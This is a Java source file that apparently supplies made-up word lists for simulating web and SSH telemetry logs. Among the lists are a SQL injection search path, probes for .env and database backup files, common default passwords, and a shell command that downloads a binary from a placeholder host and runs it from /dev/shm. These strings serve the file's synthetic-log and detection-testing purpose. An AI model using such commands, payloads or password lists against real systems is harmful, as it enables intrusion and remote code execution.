package org.commonwatch.telemetry.simulation;

import java.util.Arrays;

/** What simulated programs and people write; all of it made up. */
final class Words {
    static final byte[][] STATUSES = texts("200", "200", "301", "302", "403", "404", "500");
    static final byte[] HOST = LineWriter.ascii("host-");
    static final byte[] ZONE = LineWriter.ascii(".service.example");
    static final byte[] MD5 = LineWriter.ascii("\"md5\":\"");
    static final byte[] SHA1 = LineWriter.ascii("\"sha1\":\"");
    static final byte[] SHA256 = LineWriter.ascii("\"sha256\":\"");
    static final byte[][] METHODS = texts("GET", "GET", "GET", "POST", "HEAD");
    static final byte[][] PATHS =
            texts(
                    "/",
                    "/index.php?page=2",
                    "/api/v1/session",
                    "/admin/login.aspx",
                    "/search?q=1%27%20OR%20%271%27=%271",
                    "\\/cgi-bin\\/status",
                    "/static/js/app.7f3a.js",
                    "/shop/item?id=77&ref=front%20page",
                    "/.env",
                    "/backup/db.sql.gz",
                    "/owa/auth/x.js",
                    "/news/2018/11/results.html");
    static final byte[][] AGENTS =
            texts(
                    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Example/20100101 Browser/115.0",
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ExampleKit/537.36 Browser/119.0.0.0",
                    "Mozilla\\/5.0 (Macintosh; Intel Mac OS X 10_15_7) ExampleKit\\/605.1.15",
                    "python-client/2.31",
                    "fetch/7.88.1",
                    "Example-Scan/1.0 (+http://scan.example/why)");
    static final byte[][] USERS = texts("root", "admin", "ubuntu", "oracle", "test", "pi");
    static final byte[][] PASSWORDS =
            texts("123456", "password", "admin", "root", "1qaz2wsx", "changeme", "letmein", "");
    static final byte[][] COMMANDS =
            texts(
                    "uname -a",
                    "cat /proc/cpuinfo | grep name | wc -l",
                    "cd /dev/shm; wget http://host-1.service.example/x; chmod +x x; ./x",
                    "free -m",
                    "echo \\\"done\\\" > .state",
                    "crontab -l");
    static final byte[][] CLIENTS =
            texts("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY", "SSH-2.0-OpenSSH_8.2");

    private Words() {}

    private static byte[][] texts(String... texts) {
        return Arrays.stream(texts).map(LineWriter::ascii).toArray(byte[][]::new);
    }

    /** One of them, by any number. */
    static byte[] any(byte[][] texts, int number) {
        return texts[Math.floorMod(number, texts.length)];
    }
}
